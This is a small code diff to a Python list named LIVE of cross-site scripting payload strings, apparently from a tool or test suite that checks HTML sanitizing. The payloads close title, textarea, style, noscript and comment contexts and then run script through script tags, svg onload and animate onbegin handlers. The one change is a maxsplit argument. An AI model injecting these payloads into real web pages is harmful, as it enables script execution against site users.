@@ -31,7 +31,7 @@ LIVE = (
     f"</title><script>{DO}</script>",
     f"</script><script>{DO}</script>",
     f"</textarea></style></noscript><script>{DO}</script>",
-    f"--></title></style></template><svg/onload={DO.split(';')[0]}>",
+    f"--></title></style></template><svg/onload={DO.split(';', maxsplit=1)[0]}>",
     '<svg/onload="alert(1)">',
     f"<svg><script>{DO}</script></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
